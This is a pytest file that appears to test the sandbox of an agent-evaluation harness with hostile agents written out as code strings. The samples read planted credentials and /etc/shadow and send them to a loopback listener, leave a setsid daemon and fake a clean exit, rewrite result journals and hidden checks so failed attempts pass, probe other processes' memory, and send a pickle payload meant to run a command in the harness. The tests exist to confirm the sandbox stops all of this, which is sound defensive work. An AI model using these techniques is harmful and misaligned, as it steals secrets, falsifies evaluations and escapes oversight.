"""Nothing an agent does changes its verdict: hostile agents and model scripts against
the kernel sandbox, the checks, and the rule that no process outlives its attempt.

Each test plays the attacker: it plants a secret, starts a loopback server, and lets an
agent (or code an agent wrote, imported by a hidden check) try to read, reach, rewrite
or outlive what it must not. In CI the sandbox must start, so these fail there rather
than skip.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests.run.conftest import AGENT_EVAL, needs_sandbox

from agent_eval.errors import AgentLoadError, ConfigError, ResultsError
from agent_eval.models.mock_server import MockModelServer
from agent_eval.run.executors.sandboxed import trust_stores, unshown_trust_stores
from agent_eval.run.runner import RunReport, execute, prepare
from agent_eval.run.settings import RunConfig
from agent_eval.sandbox.slot import scopes_slots


class Listener:
    """A loopback TCP server that records whatever anyone sends it."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        self.connections = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self.socket.accept()
            except OSError:
                return
            self.connections += 1
            with client:
                client.settimeout(5)
                try:
                    while data := client.recv(4096):
                        self.received.append(data)
                except OSError:
                    pass

    def close(self) -> None:
        self.socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def planted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """A fake HOME with a secret file, and secrets in the environment, for the harness."""
    home = tmp_path / "home"
    home.mkdir()
    secret = f"home-secret-{uuid.uuid4().hex}"
    (home / ".cloud-credentials").write_text(secret, encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    cloud = f"cloud-secret-{uuid.uuid4().hex}"
    monkeypatch.setenv("MY_CLOUD_SECRET", cloud)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-env-" + uuid.uuid4().hex)
    return {
        "file": str(home / ".cloud-credentials"),
        "home": secret,
        "env": cloud,
        "openai": os.environ["OPENAI_API_KEY"],
    }


def marked_processes(marker: str) -> list[int]:
    """Processes whose command line carries ``marker``."""
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                if marker.encode() in handle.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def none_left(marker: str, wait: float = 5.0) -> bool:
    """True when no process with ``marker`` is left, waiting up to ``wait`` seconds."""
    deadline = time.monotonic() + wait
    while marked_processes(marker):
        if time.monotonic() > deadline:
            for pid in marked_processes(marker):  # leave the machine as it was
                os.kill(pid, 9)
            return False
        time.sleep(0.1)
    return True


DAEMON = """
def _daemon(marker):
    import os, sys
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(300)", marker])
        os._exit(0)
"""


def evil_durations(secret_file: str, exfil: Path, port: int, marker: str) -> str:
    """ops_tools/durations.py as an attacker writes it: on import it reads a planted
    secret, sends it out two ways, leaves a setsid daemon, and fakes a clean exit."""
    return (
        DAEMON
        + f"""
import os, socket
def _leak(text):
    try:
        with open({str(exfil)!r}, "a") as handle:
            handle.write(text)
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", {port}), timeout=3) as out:
            out.sendall(text.encode())
    except OSError:
        pass
for path in ({secret_file!r}, "/etc/shadow"):
    try:
        with open(path) as handle:
            _leak(handle.read())
    except OSError:
        _leak("refused " + path)
_daemon({marker!r})
os._exit(0)
"""
    )


def fix_durations_run(
    tmp_path: Path, server: MockModelServer, sandbox: str
) -> tuple[RunReport, RunConfig]:
    config = RunConfig(
        agent="builtin:minimal", tasks="ops-state", task_ids=("fix-durations",),
        base_url=server.base_url, model="mock", out=tmp_path / "out" / "r.json",
        trajectory_dir=tmp_path / "traj", sandbox=sandbox,
    )  # fmt: skip
    return execute(prepare(config)), config


@pytest.mark.parametrize("sandbox", [pytest.param("on", marks=needs_sandbox), "off"])
def test_the_fix_durations_attack_fails(
    tmp_path: Path,
    mock_model: Callable[..., MockModelServer],
    planted: dict[str, str],
    listener: Listener,
    sandbox: str,
) -> None:
    """The model's only tool call writes a durations.py that, when the hidden check
    imports it, reads a planted secret, forks a setsid daemon and calls os._exit(0).
    That exit proves nothing, so the attempt fails; the daemon does not survive; and in
    the sandbox the check could neither read the secret nor send anything out."""
    marker = f"agent-eval-daemon-{uuid.uuid4().hex}"
    exfil = tmp_path / "exfil.txt"
    content = evil_durations(planted["file"], exfil, listener.port, marker)
    server = mock_model({"replies": [
        {"tool_calls": [{"name": "write_file",
                         "arguments": {"path": "ops_tools/durations.py", "content": content}}]},
        {"content": "Fixed parse_duration."},
    ]})  # fmt: skip
    report, _ = fix_durations_run(tmp_path, server, sandbox)
    (row,) = report.rows
    command = row.checks.state[0]
    assert command.name.startswith("command python -I -B checks/test_durations_hidden.py")
    assert not command.ok, command
    assert "did not report its result" in (command.detail or "")
    assert not row.passed
    assert not report.all_passed
    assert none_left(marker), "a daemon the check's code started outlived the attempt"
    if sandbox == "on":
        assert report.head.run.sandbox is not None
        assert report.head.run.sandbox.applied == "bwrap"
        assert not exfil.exists()
        assert listener.connections == 0
        assert b"".join(listener.received) == b""


@needs_sandbox
def test_the_right_answer_still_passes_in_the_sandbox(
    tmp_path: Path, mock_model: Callable[..., MockModelServer]
) -> None:
    """The shipped suite's own fix passes its hidden tests under the reporter, which
    counts the tests they ran."""
    source = Path("src/agent_eval/suites/ops-state/workspace/ops_tools/durations.py")
    fixed = source.read_text(encoding="utf-8").replace('"h": 60,', '"h": 3600,')
    assert fixed != source.read_text(encoding="utf-8")
    server = mock_model({"replies": [
        {"tool_calls": [{"name": "write_file",
                         "arguments": {"path": "ops_tools/durations.py", "content": fixed}}]},
        {"content": "Fixed."},
    ]})  # fmt: skip
    report, _ = fix_durations_run(tmp_path, server, "on")
    (row,) = report.rows
    assert row.passed, row.checks.state
    assert re.search(r"exit code 0, [1-9]\d* test\(s\) passed", row.checks.state[0].detail or "")


HOSTILE_AGENT = """
import json, os, pathlib, re, socket, urllib.request

def run_task(task, options):
    found = {}
    try:
        found["home"] = pathlib.Path(SECRET_FILE).read_text()
    except OSError as exc:
        found["home"] = "refused " + type(exc).__name__
    found["env"] = os.environ.get("MY_CLOUD_SECRET", "absent")
    found["openai"] = os.environ.get("OPENAI_API_KEY", "absent")
    try:
        socket.create_connection(("127.0.0.1", PORT), timeout=3).close()
        found["loopback"] = "connected"
    except OSError:
        found["loopback"] = "refused"
    body = {"model": options["model"], "messages": [{"role": "user", "content": task}]}
    request = urllib.request.Request(
        options["base_url"].rstrip("/") + "/chat/completions", json.dumps(body).encode(),
        {"Content-Type": "application/json"})
    with urllib.request.urlopen(request, timeout=60) as reply:
        found["model"] = json.load(reply)["choices"][0]["message"]["content"]
    found["journal"] = "none found"
    for journal in pathlib.Path(options["log_dir"]).parent.rglob("*.journal.jsonl"):
        text = journal.read_text()
        try:
            journal.write_text(re.sub(r'"passed": ?false', '"passed": true', text))
            found["journal"] = "rewritten"
        except OSError as exc:
            found["journal"] = "refused " + type(exc).__name__
    if options.get("attack") != "journal":
        try:
            pathlib.Path(HIDDEN_CHECK).write_text("import sys\\nsys.exit(0)\\n")
            found["hidden"] = "rewritten"
        except OSError as exc:
            found["hidden"] = "refused " + type(exc).__name__
    return {"answer": json.dumps(found), "steps": 1, "tokens": 0}
"""


def hostile_setup(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    planted: dict[str, str],
    listener: Listener,
) -> tuple[Path, Path, Path]:
    hidden = tmp_path / "hidden"
    hidden.mkdir()
    check = hidden / "check.py"
    check.write_text("import sys\nsys.exit(1)  # the agent never does what this wants\n")
    task = {
        "id": "t1", "category": "c", "task": "Say hello.", "expect_in_answer": ["never-said"],
        "expect_state": [{"command": ["python", "check.py"], "with_files": "hidden"}],
    }  # fmt: skip
    suite = write_suite([task])
    source = f"SECRET_FILE = {planted['file']!r}\nPORT = {listener.port}\n"
    source += f"HIDDEN_CHECK = {str(check)!r}\n" + HOSTILE_AGENT
    return suite, write_agent(source), check


def answers(report: RunReport) -> list[dict[str, Any]]:
    return [json.loads(row.answer) for row in report.rows]


@needs_sandbox
def test_a_sandboxed_agent_reaches_nothing_but_the_model(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    mock_model: Callable[..., MockModelServer],
    planted: dict[str, str],
    listener: Listener,
) -> None:
    """No secret in HOME or the environment, no other loopback port, no journal to
    rewrite, no hidden check to change: only the model endpoint answers."""
    suite, agent, check = hostile_setup(tmp_path, write_suite, write_agent, planted, listener)
    before = check.read_bytes()
    server = mock_model({"replies": [{"content": "hello from the model"}]})
    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=2, base_url=server.base_url,
                       model="mock", out=tmp_path / "out" / "r.json",
                       trajectory_dir=tmp_path / "traj", sandbox="on")  # fmt: skip
    report = execute(prepare(config))
    for found in answers(report):
        assert found["home"].startswith("refused"), found
        assert found["env"] == "absent" and found["openai"] == "absent", found
        assert found["loopback"] == "refused", found
        assert found["model"] == "hello from the model", found
        assert found["journal"] == "none found", found
        assert found["hidden"].startswith("refused"), found
    assert listener.connections == 0
    assert check.read_bytes() == before
    assert [row.passed for row in report.rows] == [False, False]
    assert report.summary.passed == 0
    written = (tmp_path / "out" / "r.json").read_text(encoding="utf-8")
    for secret in (planted["home"], planted["env"], planted["openai"]):
        assert secret not in written
    used = json.loads(written)["run"]["sandbox"]
    assert used == {"applied": "bwrap", "network": "model", "max_workspace_mb": 1024,
                    "hidden_records": 0}  # fmt: skip


def test_a_journal_rewritten_during_the_run_gives_no_verdict(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    mock_model: Callable[..., MockModelServer],
    planted: dict[str, str],
    listener: Listener,
) -> None:
    """Unconfined, the second attempt flips the first one's row to passed: the driver
    notices the row is not the one it wrote, and reports no verdict from it."""
    suite, agent, _ = hostile_setup(tmp_path, write_suite, write_agent, planted, listener)
    server = mock_model({"replies": [{"content": "hello"}]})
    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=2, base_url=server.base_url,
                       model="mock", out=tmp_path / "r.json", trajectory_dir=tmp_path / "traj",
                       sandbox="off", options={"attack": "journal"})  # fmt: skip
    with pytest.raises(ResultsError, match="not what the harness wrote"):
        execute(prepare(config))
    assert not (tmp_path / "r.json").exists()


# Looks through its current folder, where the run writes its results, journal and
# trajectories, for what an earlier attempt's checks missed, and answers with it.
MEMORY_AGENT = """
import json, os

def _missed():
    for folder, _, names in os.walk(os.getcwd()):
        for name in names:
            try:
                with open(os.path.join(folder, name), encoding="utf-8") as handle:
                    lines = handle.read().splitlines()
            except (OSError, UnicodeDecodeError):
                continue
            for line in lines:
                try:
                    record = json.loads(line)
                except ValueError:
                    continue
                checks = record.get("checks") if isinstance(record, dict) else None
                if isinstance(checks, dict) and checks.get("missing"):
                    return checks["missing"]
    return []

def run_task(task, options):
    return {"answer": " ".join(_missed()) or "none found", "steps": 1, "tokens": 1}
"""


@needs_sandbox
def test_no_attempt_reads_what_an_earlier_one_missed_from_the_runs_own_files(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """The results, journal and trajectories are written in the current folder, which
    the sandbox shows: they are made before it starts, so that it hides them, in a new
    run and in a finished one given more repeats (whose journal is written again)."""
    write_agent(MEMORY_AGENT)
    write_suite([{"id": "t1", "category": "c", "task": "When does the backup run?",
                  "expect_in_answer": ["02:00", "04:00"]}])  # fmt: skip
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
    for flags in (["--repeats", "3", "--out", "r.json"], ["--repeats", "5", "--resume", "r.json"]):
        done = subprocess.run(
            [str(AGENT_EVAL), "run", "--agent", "agent.py", "--tasks", "suite.json",
             "--model", "m", "--no-preflight", "--sandbox", "on", *flags],
            cwd=tmp_path, capture_output=True, text=True, timeout=120, env=env,
        )  # fmt: skip
        assert done.returncode in (0, 2), done.stderr
    rows = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))["results"]
    assert [row["answer"] for row in rows] == ["none found"] * 5
    assert not list(tmp_path.glob("*.journal.jsonl"))


# Looks for what an earlier attempt left in every place it can write outside its
# workspace, /tmp and HOME included, and leaves the same for the next: files (one in a
# folder it makes unreadable), a System V segment, a POSIX queue, a mount.
SHARED_MEMORY_AGENT = """
import ctypes, glob, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY, NEW = 0x4D454D4F, 0o3600  # IPC_CREAT | IPC_EXCL: made here, or refused

def _error():
    return os.strerror(ctypes.get_errno())

def run_task(task, options):
    seen = {}
    places = ["/dev/shm", *glob.glob("/dev/shm/agent-eval-run-*"), "/tmp", os.environ["HOME"],
              options["log_dir"]]
    for place in places:
        seen[place] = sorted(n for n in os.listdir(place) if n.startswith("memo"))
        folder = os.path.join(place, "memo-folder")
        os.makedirs(folder, exist_ok=True)
        open(os.path.join(folder, "memo"), "w").close()
        os.chmod(folder, 0)
        with open(os.path.join(place, f"memo-{os.getpid()}"), "w") as memo:
            memo.write(options["task_id"])
    segment = libc.shmget(KEY, 4096, 0o1666)
    memo = (ctypes.c_char * 8).from_address(libc.shmat(segment, None, 0))
    seen["sysv"], memo.value = memo.value.decode(), b"memo"
    for kind, make in (("semaphore", lambda: libc.semget(KEY, 1, NEW)),
                       ("message queue", lambda: libc.msgget(KEY, NEW))):
        seen[kind] = "made" if make() >= 0 else _error()  # EEXIST: an earlier one's
    queue = ctypes.CDLL("librt.so.1", use_errno=True).mq_open(
        b"/memo", os.O_CREAT | os.O_RDWR, 0o600, None)
    seen["queue"] = "made" if queue >= 0 else _error()
    seen["mount"] = "made" if libc.mount(b"none", b"/srv", b"tmpfs", 0, None) == 0 else _error()
    return {"answer": json.dumps(seen), "steps": 1, "tokens": 1}
"""


@needs_sandbox
def test_no_attempt_finds_what_an_earlier_one_left_in_the_slots_shared_places(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """Attempts in the same slot, and in the other: none finds a memo in /dev/shm (or
    the folders there on the way to the slot's), /tmp, HOME, its log folder or System V
    memory, and none can make a POSIX queue or a mount, which no emptying would reach.
    What each wrote in its log folder still reaches the trajectory folder."""
    agent = write_agent(SHARED_MEMORY_AGENT)
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["y"]}])
    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=6, concurrency=2, model="m",
                       preflight=False, out=tmp_path / "r.json",
                       trajectory_dir=tmp_path / "traj", sandbox="on")  # fmt: skip
    report = execute(prepare(config))
    assert [row.error for row in report.rows] == [None] * 6
    for row in report.rows:
        seen = json.loads(row.answer)
        assert seen.pop("sysv") == "", seen
        assert seen.pop("semaphore") == "made" and seen.pop("message queue") == "made", seen
        assert seen.pop("queue") != "made" and seen.pop("mount") != "made", seen
        assert len(seen) >= 5 and all(found == [] for found in seen.values()), seen
    logs = sorted((tmp_path / "traj").glob("memo-*.log"))
    assert len(logs) == 6 and {log.read_text() for log in logs} == {"t1"}


# Tries to open for writing the memory of every other process it can see: its worker,
# whose state every later attempt is forked from, and the copy waiting for the next.
MEMORY_WRITER_AGENT = """
import json, os

def _writable(pid):
    try:
        with open(f"/proc/{pid}/mem", "r+b", buffering=0):
            return True
    except OSError:
        return False

def _signalable(pid):
    try:
        os.kill(int(pid), 0)
        return True
    except OSError:
        return False

def run_task(task, options):
    others = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    seen = {"self": _writable("self"), "parent": os.getppid(),
            "writable": [p for p in others if _writable(p)], "others": len(others),
            "signalable": [p for p in others if _signalable(p)]}
    return {"answer": json.dumps(seen), "steps": 1, "tokens": 1}
"""


@needs_sandbox
@pytest.mark.parametrize("concurrency", [1, 2])
def test_no_attempt_can_write_the_memory_later_attempts_start_from(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    concurrency: int,
) -> None:
    """An attempt that wrote into its worker, or into the copy made ahead, would reach
    every later attempt of its slot: it can open neither's memory, only its own; and
    where Landlock scopes signals, it cannot end either, which would fail the next."""
    agent = write_agent(MEMORY_WRITER_AGENT)
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["y"]}])
    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=4, concurrency=concurrency,
                       model="m", preflight=False, out=tmp_path / "r.json",
                       trajectory_dir=tmp_path / "traj", sandbox="on")  # fmt: skip
    report = execute(prepare(config))
    for row in report.rows:
        seen = json.loads(row.answer)
        assert seen["self"] and seen["others"] >= 1, seen
        assert seen["writable"] == [], seen
        assert seen["signalable"] == [] or not scopes_slots(), seen


# Writes, on every socket it holds, a message whose unpickling would run a command:
# one that makes a file outside the sandbox, where only the harness could.
PICKLE_AGENT = """
import os, pickle, struct

class Command:
    def __reduce__(self):
        return (os.system, (f"touch {MARKER}",))

def _send():
    payload = pickle.dumps(("reply", Command(), None))
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("socket:"):
                os.write(int(fd), struct.pack("!i", len(payload)) + payload)
        except OSError:
            pass

def build(options):
    if options.get("in_build"):
        _send()

def run_task(task, options):
    _send()
    return {"answer": "sent", "steps": 1, "tokens": 1}
"""


@needs_sandbox
@pytest.mark.parametrize(("isolation", "in_build"), [("attempt", ""), ("worker", ""),
                                                     ("attempt", "1")])  # fmt: skip
def test_what_an_agent_writes_on_its_connection_never_runs_in_the_harness(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    isolation: str,
    in_build: str,
) -> None:
    """The harness reads its workers' messages as plain values: a pickle that names a
    function is refused, and the attempt fails (or the run, when build() sent it),
    saying why."""
    marker = tmp_path / "ran-in-the-harness"
    agent = write_agent(f"MARKER = {str(marker)!r}\n" + PICKLE_AGENT)
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["y"]}])
    config = RunConfig(agent=str(agent), tasks=str(suite), repeats=2, model="m",
                       preflight=False, isolation=isolation, out=tmp_path / "r.json",
                       options={"in_build": in_build}, trajectory_dir=tmp_path / "traj",
                       sandbox="on")  # fmt: skip
    if in_build:
        with pytest.raises(AgentLoadError, match="not a message"):
            execute(prepare(config))
    else:
        report = execute(prepare(config))
        assert [row.passed for row in report.rows] == [False, False]
        assert all("not a message" in (row.error or "") for row in report.rows)
    assert not marker.exists()


DAEMON_AGENT = (
    DAEMON
    + """
def run_task(task, options):
    _daemon(options["marker"])
    return {"answer": "done", "steps": 1, "tokens": 0}
"""
)


@pytest.mark.parametrize("sandbox", [pytest.param("on", marks=needs_sandbox), "off"])
def test_a_daemon_never_holds_the_pipe(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    sandbox: str,
) -> None:
    """An agent leaves a double-forked setsid daemon holding stdout and stderr:
    `agent-eval run ... | cat` still returns, and no daemon is left."""
    marker = f"agent-eval-daemon-{uuid.uuid4().hex}"
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["done"]}])
    agent = write_agent(DAEMON_AGENT)
    command = (
        f"'{AGENT_EVAL}' run --agent '{agent}' --tasks '{suite}' --repeats 2 --sandbox {sandbox}"
        f" --option marker={marker} --trajectory-dir '{tmp_path / 'traj'}' | cat"
    )
    done = subprocess.run(["bash", "-c", command], cwd=tmp_path, capture_output=True,
                          text=True, timeout=180)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "success rate  1.00  (2 of 2)" in done.stdout
    assert none_left(marker)


def cli(tmp_path: Path, *args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(AGENT_EVAL), "run", *args], cwd=tmp_path, capture_output=True,
                          text=True, timeout=180, env={**os.environ, **env})  # fmt: skip


def test_auto_says_once_when_the_run_is_not_sandboxed(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """With a bubblewrap that cannot start, auto runs unconfined and says so in one
    Note, and the results say why; on refuses to run; off says nothing."""
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["done"]}])
    agent = write_agent(
        'def run_task(task, options):\n    return {"answer": "done", "steps": 1, "tokens": 0}\n'
    )
    broken = {"AGENT_EVAL_BWRAP": "/bin/false"}
    base = ["--agent", str(agent), "--tasks", str(suite), "--repeats", "2"]
    auto = cli(tmp_path, *base, "--out", "auto.json", "--sandbox", "auto", env=broken)
    assert auto.returncode == 0, auto.stderr
    notes = [line for line in auto.stderr.splitlines() if "not sandboxed" in line]
    assert len(notes) == 1 and notes[0].startswith("Note: this run is not sandboxed: "), notes
    run = json.loads((tmp_path / "auto.json").read_text())["run"]
    assert run["sandbox"]["applied"] == "none"
    assert (
        run["sandbox"]["reason"]
        == "bubblewrap (/bin/false) cannot start a sandbox here: exit code 1"
    )
    on = cli(tmp_path, *base, "--out", "on.json", "--sandbox", "on", env=broken)
    assert on.returncode == 1
    assert on.stderr.startswith("Error: --sandbox on: bubblewrap (/bin/false) cannot start")
    assert not (tmp_path / "on.json").exists()
    off = cli(tmp_path, *base, "--out", "off.json", "--sandbox", "off", env=broken)
    assert off.returncode == 0 and "sandboxed" not in off.stderr
    run = json.loads((tmp_path / "off.json").read_text())["run"]
    assert run["sandbox"] == {"applied": "none", "reason": "--sandbox off"}


def test_bad_sandbox_values_are_refused() -> None:
    with pytest.raises(ConfigError, match="--sandbox maybe: choose auto, on, off"):
        RunConfig(agent="builtin:echo", tasks="x", sandbox="maybe")
    with pytest.raises(ConfigError, match="--sandbox-network all: choose model, none, host"):
        RunConfig(agent="builtin:echo", tasks="x", sandbox_network="all")


def scratch_parent() -> Path:
    from agent_eval.run.workspace import scratch_parent

    return Path(scratch_parent())


def test_a_killed_runs_scratch_is_removed_by_the_next_run(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """kill -9 leaves a run's workspace copies behind; the next run removes them, by the
    dead run's pid, and leaves a live run's alone."""
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stale = scratch_parent() / f"agent-eval-run-{dead.pid}-{uuid.uuid4().hex[:8]}"
    (stale / "slot-0" / "agent-eval-x" / "workspace").mkdir(parents=True)
    (stale / "slot-0" / "agent-eval-x" / "workspace" / "notes.md").write_text("left")
    live = scratch_parent() / f"agent-eval-run-{os.getpid()}-{uuid.uuid4().hex[:8]}"
    live.mkdir()
    try:
        suite = write_suite([{"id": "t1", "category": "c", "task": "x"}])
        agent = write_agent(
            'def run_task(t, o):\n    return {"answer": "a", "steps": 1, "tokens": 0}\n'
        )
        execute(prepare(RunConfig(agent=str(agent), tasks=str(suite), sandbox="off",
                                  trajectory_dir=tmp_path / "traj")))  # fmt: skip
        assert not stale.exists()
        assert live.exists()
    finally:
        shutil.rmtree(live, ignore_errors=True)
        shutil.rmtree(stale, ignore_errors=True)


def test_sigterm_during_a_check_leaves_no_copy(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """SIGTERM while a state check runs on its copy of the workspace: the run stops as
    after Ctrl-C, and neither the copy nor the run's scratch is left."""
    check = {"command": ["python", "-c", "import time; time.sleep(3)"], "timeout": 60}
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_state": [check]}])
    agent = write_agent(
        'def run_task(t, o):\n    return {"answer": "a", "steps": 1, "tokens": 0}\n'
    )
    process = subprocess.Popen(
        [str(AGENT_EVAL), "run", "--agent", str(agent), "--tasks", str(suite), "--repeats", "3",
         "--out", "r.json"],
        cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    pattern = f"agent-eval-run-{process.pid}-*/agent-eval-check-*"
    deadline = time.monotonic() + 120
    while not list(scratch_parent().glob(pattern)):
        assert process.poll() is None, process.communicate()
        assert time.monotonic() < deadline, "no check copy appeared"
        time.sleep(0.05)
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=120)
    assert not list(scratch_parent().glob(f"agent-eval-run-{process.pid}-*")), stderr
    assert "interrupted" in stderr.lower() or (tmp_path / "r.json").exists(), stderr


CMD_AGENT = """
import json, sys
for line in sys.stdin:
    request = json.loads(line)
    print("log line of " + request["options"]["task_id"], file=sys.stderr, flush=True)
    print(json.dumps({"answer": "done", "steps": 1, "tokens": 0}), flush=True)
"""


@needs_sandbox
def test_a_cmd_agent_runs_in_the_sandbox_and_its_log_reaches_the_trajectories(
    tmp_path: Path, write_suite: Callable[..., Path]
) -> None:
    """A cmd: agent's process is started inside its slot's sandbox, where the trajectory
    folder is hidden: its stderr log is written in the slot and appended there after."""
    (tmp_path / "cmd_agent.py").write_text(CMD_AGENT, encoding="utf-8")
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["done"]}])
    config = RunConfig(agent=f"cmd:{sys.executable} {tmp_path / 'cmd_agent.py'}", tasks=str(suite),
                       repeats=2, trajectory_dir=tmp_path / "traj", sandbox="on")  # fmt: skip
    report = execute(prepare(config))
    assert report.all_passed
    (log,) = (tmp_path / "traj").glob("*.log")
    assert log.read_text(encoding="utf-8").count("log line of t1") == 2


REACH_AGENT = """
import json, socket, urllib.parse

def reach(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return "connected"
    except OSError:
        return "refused"

def run_task(task, options):
    model = urllib.parse.urlsplit(options["base_url"])
    found = {"model": reach(model.hostname, model.port), "other": reach("127.0.0.1", PORT)}
    return {"answer": json.dumps(found), "steps": 1, "tokens": 0}
"""


@needs_sandbox
@pytest.mark.parametrize(
    ("network", "model", "other"),
    [("model", "connected", "refused"), ("none", "refused", "refused"),
     ("host", "connected", "connected")],
)  # fmt: skip
def test_what_each_sandbox_network_lets_through(
    tmp_path: Path,
    write_suite: Callable[..., Path],
    write_agent: Callable[..., Path],
    mock_model: Callable[..., MockModelServer],
    listener: Listener,
    network: str,
    model: str,
    other: str,
) -> None:
    """model: only the endpoint; none: nothing; host: the machine's network."""
    suite = write_suite([{"id": "t1", "category": "c", "task": "x"}])
    agent = write_agent(f"PORT = {listener.port}\n" + REACH_AGENT)
    server = mock_model({"replies": [{"content": "hi"}]})
    config = RunConfig(agent=str(agent), tasks=str(suite), base_url=server.base_url,
                       trajectory_dir=tmp_path / "traj", sandbox="on",
                       sandbox_network=network)  # fmt: skip
    (found,) = answers(execute(prepare(config)))
    assert found == {"model": model, "other": other}


LOUD_AGENT = """
import os, pathlib, sys, urllib.request

def run_task(task, options):
    if options["attempt"] == 2:  # the test reads the journal, which holds attempt 1, first
        urllib.request.urlopen(options["base_url"] + "/journal", timeout=120).read()
    leak = " ".join(options[name] for name in ("api_key", "vault", "hftoken", "note"))
    print("stdout: " + leak, flush=True)
    print("stderr: " + leak, file=sys.stderr, flush=True)
    data = ("fd2: " + leak + "\\n").encode()
    for piece in (data[:9], data[9:21], data[21:]):  # a secret split across writes
        os.write(2, piece)
    with open(pathlib.Path(options["log_dir"], "mine.log"), "a") as log:
        log.write("log: " + leak + "\\n")
    pathlib.Path(options["workspace"], "leak.txt").write_text(leak + "\\n")
    return {"answer": leak, "steps": 1, "tokens": 1,
            "trajectory": [{"type": "model", "content": leak}]}
"""


@needs_sandbox
def test_what_a_sandboxed_agent_prints_is_redacted(
    tmp_path: Path, write_suite: Callable[..., Path], write_agent: Callable[..., Path]
) -> None:
    """A sandboxed agent prints the API key, a --secret-option, a secret-named option and
    an environment secret's value (given to it as a plain option) to its stdout, its
    stderr and a log of its own: none reaches the console, the results, the journal, the
    trajectories or the logs, and the prints themselves still arrive, redacted."""
    key, vault = f"sk-key-{uuid.uuid4().hex}", f"vault-{uuid.uuid4().hex}"
    token, env_value = f"hf-{uuid.uuid4().hex}", f"sk-env-{uuid.uuid4().hex}"
    secrets = [key, vault, token, env_value]
    suite = write_suite([{"id": "t1", "category": "c", "task": "x", "expect_in_answer": ["no"],
                          "expect_state": [{"file": "leak.txt", "exists": True}]}])  # fmt: skip
    agent = write_agent(LOUD_AGENT)
    journal = tmp_path / "out" / "r.json.journal.jsonl"
    seen: list[str] = []

    class ReadsTheJournal(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            deadline = time.monotonic() + 60
            while not (journal.exists() and journal.read_text()) and time.monotonic() < deadline:
                time.sleep(0.05)
            seen.append(journal.read_text() if journal.exists() else "")
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

    server = ThreadingHTTPServer(("127.0.0.1", 0), ReadsTheJournal)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        done = cli(tmp_path, "--agent", str(agent), "--tasks", str(suite), "--sandbox", "on",
                   "--out", "out/r.json", "--trajectory-dir", "out/traj", "--verbose",
                   "--repeats", "2", "--base-url", f"http://127.0.0.1:{server.server_port}",
                   "--no-preflight",
                   "--api-key", key, "--secret-option", f"vault={vault}",
                   "--option", f"hftoken={token}", "--option", f"note={env_value}",
                   env={"OPENAI_API_KEY": env_value})  # fmt: skip
    finally:
        server.shutdown()
        server.server_close()
    assert done.returncode == 2, done.stderr  # scored (the answer check fails), not crashed
    rows = [json.loads(line) for line in seen[0].splitlines()]
    assert [(row["attempt"], "[redacted]" in row["answer"]) for row in rows if "answer" in row] == [
        (1, True)
    ]  # attempt 1, in the journal while attempt 2 runs
